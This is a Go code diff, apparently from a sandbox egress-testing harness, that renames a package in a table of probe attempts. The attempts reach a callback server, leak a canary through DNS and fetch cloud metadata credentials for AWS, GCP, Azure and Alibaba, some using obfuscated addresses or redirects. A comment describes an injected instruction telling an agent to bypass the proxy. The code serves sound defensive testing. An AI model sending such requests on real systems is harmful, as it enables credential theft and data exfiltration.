@@ -6,7 +6,7 @@ import (
 	"strings"
 
 	"github.com/gatehouse-dev/gatehouse/lab"
-	"github.com/gatehouse-dev/gatehouse/probe"
+	"github.com/gatehouse-dev/gatehouse/probe/wire"
 )
 
 // Lab addresses the attempts aim at (docs/lab.md). They exist only inside
@@ -26,78 +26,78 @@ const (
 
 // A family is the set of named attempts one kind of step may ask for. Names
 // are what feature tables list; the payloads live here, not in the features.
-type family map[string]func(canary string) probe.Step
+type family map[string]func(canary string) wire.Step
 
 var families = withProxy(map[string]family{
 	"reach the callback server": {
-		"http":  func(c string) probe.Step { return get("http://" + callbackV4 + "/c/" + c) },
-		"https": func(c string) probe.Step { return get("https://" + callbackV4 + "/c/" + c) },
-		"tcp": func(c string) probe.Step {
-			return probe.Step{Kind: probe.KindTCP, Target: callbackV4 + ":9000", Payload: "GATEHOUSE " + c + "\n"}
+		"http":  func(c string) wire.Step { return get("http://" + callbackV4 + "/c/" + c) },
+		"https": func(c string) wire.Step { return get("https://" + callbackV4 + "/c/" + c) },
+		"tcp": func(c string) wire.Step {
+			return wire.Step{Kind: wire.KindTCP, Target: callbackV4 + ":9000", Payload: "GATEHOUSE " + c + "\n"}
 		},
-		"udp": func(c string) probe.Step {
-			return probe.Step{Kind: probe.KindUDP, Target: callbackV4 + ":9001", Payload: "GATEHOUSE " + c}
+		"udp": func(c string) wire.Step {
+			return wire.Step{Kind: wire.KindUDP, Target: callbackV4 + ":9001", Payload: "GATEHOUSE " + c}
 		},
-		"icmp":      func(c string) probe.Step { return probe.Step{Kind: probe.KindICMP, Target: callbackV4, Payload: c} },
-		"http-ipv6": func(c string) probe.Step { return get("http://[" + callbackV6 + "]/c/" + c) },
-		"tcp-ipv6": func(c string) probe.Step {
-			return probe.Step{Kind: probe.KindTCP, Target: "[" + callbackV6 + "]:9000", Payload: "GATEHOUSE " + c + "\n"}
+		"icmp":      func(c string) wire.Step { return wire.Step{Kind: wire.KindICMP, Target: callbackV4, Payload: c} },
+		"http-ipv6": func(c string) wire.Step { return get("http://[" + callbackV6 + "]/c/" + c) },
+		"tcp-ipv6": func(c string) wire.Step {
+			return wire.Step{Kind: wire.KindTCP, Target: "[" + callbackV6 + "]:9000", Payload: "GATEHOUSE " + c + "\n"}
 		},
-		"icmp-ipv6": func(c string) probe.Step { return probe.Step{Kind: probe.KindICMP, Target: callbackV6, Payload: c} },
-		"redirect": func(c string) probe.Step {
+		"icmp-ipv6": func(c string) wire.Step { return wire.Step{Kind: wire.KindICMP, Target: callbackV6, Payload: c} },
+		"redirect": func(c string) wire.Step {
 			s := get("http://" + inferenceAddr + "/redirect?to=http://" + callbackV4 + "/r/" + c)
 			s.Follow = true
 			return s
 		},
 		// The sandbox's environment may name a proxy; an injected instruction
 		// says to connect directly, so the probe leaves the proxy out.
-		"ignore-proxy": func(c string) probe.Step { return get("http://" + callbackV4 + "/p/" + c) },
+		"ignore-proxy": func(c string) wire.Step { return get("http://" + callbackV4 + "/p/" + c) },
 	},
 	"leak the session canary through DNS": {
-		"configured-resolver": func(c string) probe.Step { return dnsq(c+".r."+canaryZone, "", "A") },
-		"configured-resolver-txt": func(c string) probe.Step {
+		"configured-resolver": func(c string) wire.Step { return dnsq(c+".r."+canaryZone, "", "A") },
+		"configured-resolver-txt": func(c string) wire.Step {
 			return dnsq(c+".t."+canaryZone, "", "TXT")
 		},
-		"own-resolver": func(c string) probe.Step { return dnsq(c+".o."+canaryZone, authorityAddr+":53", "A") },
-		"own-resolver-aaaa": func(c string) probe.Step {
+		"own-resolver": func(c string) wire.Step { return dnsq(c+".o."+canaryZone, authorityAddr+":53", "A") },
+		"own-resolver-aaaa": func(c string) wire.Step {
 			return dnsq(c+".q."+canaryZone, authorityAddr+":53", "AAAA")
 		},
 	},
 	"read cloud metadata": {
-		"aws-imdsv1": func(c string) probe.Step {
+		"aws-imdsv1": func(c string) wire.Step {
 			return get("http://" + metadataV4 + "/latest/meta-data/iam/security-credentials/gatehouse-role")
 		},
-		"aws-imdsv2": func(c string) probe.Step {
-			return probe.Step{
-				Kind: probe.KindHTTP, Method: "PUT", Target: "http://" + metadataV4 + "/latest/api/token",
+		"aws-imdsv2": func(c string) wire.Step {
+			return wire.Step{
+				Kind: wire.KindHTTP, Method: "PUT", Target: "http://" + metadataV4 + "/latest/api/token",
 				Headers: map[string]string{"X-aws-ec2-metadata-token-ttl-seconds": "21600"},
-				Then: &probe.Chain{
+				Then: &wire.Chain{
 					Target: "http://" + metadataV4 + "/latest/meta-data/iam/security-credentials/gatehouse-role",
 					Header: "X-aws-ec2-metadata-token",
 				},
 			}
 		},
-		"aws-ipv6": func(c string) probe.Step { return get("http://[" + metadataV6 + "]/latest/meta-data/") },
-		"gcp": func(c string) probe.Step {
+		"aws-ipv6": func(c string) wire.Step { return get("http://[" + metadataV6 + "]/latest/meta-data/") },
+		"gcp": func(c string) wire.Step {
 			return withHeader(get("http://"+metadataV4+"/computeMetadata/v1/instance/service-accounts/default/token"), "Metadata-Flavor", "Google")
 		},
-		"gcp-by-name": func(c string) probe.Step {
+		"gcp-by-name": func(c string) wire.Step {
 			return withHeader(get("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"), "Metadata-Flavor", "Google")
 		},
-		"azure": func(c string) probe.Step {
+		"azure": func(c string) wire.Step {
 			return withHeader(get("http://"+metadataV4+"/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"), "Metadata", "true")
 		},
-		"azure-wireserver": func(c string) probe.Step {
+		"azure-wireserver": func(c string) wire.Step {
 			return withHeader(get("http://"+wireServer+"/machine/?comp=goalstate"), "x-ms-version", "2012-11-30")
 		},
-		"alibaba": func(c string) probe.Step {
+		"alibaba": func(c string) wire.Step {
 			return get("http://" + alibabaMeta + "/latest/meta-data/ram/security-credentials/")
 		},
-		"decimal-address":  func(c string) probe.Step { return get("http://2852039166/latest/meta-data/") },
-		"hex-address":      func(c string) probe.Step { return get("http://0xa9fea9fe/latest/meta-data/") },
-		"ipv4-mapped-ipv6": func(c string) probe.Step { return get("http://[::ffff:" + metadataV4 + "]/latest/meta-data/") },
-		"dns-name":         func(c string) probe.Step { return get("http://metadata.gatehouse.test/latest/meta-data/") },
-		"redirect": func(c string) probe.Step {
+		"decimal-address":  func(c string) wire.Step { return get("http://2852039166/latest/meta-data/") },
+		"hex-address":      func(c string) wire.Step { return get("http://0xa9fea9fe/latest/meta-data/") },
+		"ipv4-mapped-ipv6": func(c string) wire.Step { return get("http://[::ffff:" + metadataV4 + "]/latest/meta-data/") },
+		"dns-name":         func(c string) wire.Step { return get("http://metadata.gatehouse.test/latest/meta-data/") },
+		"redirect": func(c string) wire.Step {
 			s := get("http://" + inferenceAddr + "/redirect?to=http://" + metadataV4 + "/latest/meta-data/iam/security-credentials/")
 			s.Follow = true
 			return s
@@ -112,9 +112,9 @@ var families = withProxy(map[string]family{
 // environment names (srt, codex and most egress-proxy setups put the only way
 // out there), direct when it names none. The harness itself names no proxy,
 // so a sandbox without one is tested as it is.
-func controlStep(token string) probe.Step {
-	return probe.Step{
-		ID: "positive-control", Kind: probe.KindHTTP, Method: "POST", UseProxy: true,
+func controlStep(token string) wire.Step {
+	return wire.Step{
+		ID: "positive-control", Kind: wire.KindHTTP, Method: "POST", UseProxy: true,
 		Target:  "http://" + inferenceAddr + "/v1/complete?control=" + token,
 		Headers: map[string]string{"X-Gatehouse-Control": token, "Content-Type": "application/json"},
 		Body:    `{"prompt":"summarise the report in one line"}`,
@@ -124,16 +124,16 @@ func controlStep(token string) probe.Step {
 // plan resolves attempt names of one family into probe steps. addrs are
 // the lab's addresses, for the attempts that aim at overridable ones
 // (aimedFamilies).
-func plan(familyName string, names []string, canary string, addrs lab.Addrs) ([]probe.Step, error) {
+func plan(familyName string, names []string, canary string, addrs lab.Addrs) ([]wire.Step, error) {
 	f, ok := families[familyName]
 	af, aok := aimedFamilies[familyName]
 	if !ok && !aok {
 		return nil, fmt.Errorf("no attempts for %q", familyName)
 	}
-	var steps []probe.Step
+	var steps []wire.Step
 	seen := map[string]bool{}
 	for _, n := range names {
-		var s probe.Step
+		var s wire.Step
 		if mk, ok := f[n]; ok {
 			s = mk(canary)
 		} else if mk, ok := af[n]; ok {
@@ -170,13 +170,13 @@ func (f family) names() []string {
 	return out
 }
 
-func get(url string) probe.Step { return probe.Step{Kind: probe.KindHTTP, Method: "GET", Target: url} }
+func get(url string) wire.Step { return wire.Step{Kind: wire.KindHTTP, Method: "GET", Target: url} }
 
-func dnsq(name, server, qtype string) probe.Step {
-	return probe.Step{Kind: probe.KindDNS, Target: name, Server: server, QType: qtype}
+func dnsq(name, server, qtype string) wire.Step {
+	return wire.Step{Kind: wire.KindDNS, Target: name, Server: server, QType: qtype}
 }
 
-func withHeader(s probe.Step, k, v string) probe.Step {
+func withHeader(s wire.Step, k, v string) wire.Step {
 	s.Headers = map[string]string{k: v}
 	return s
 }
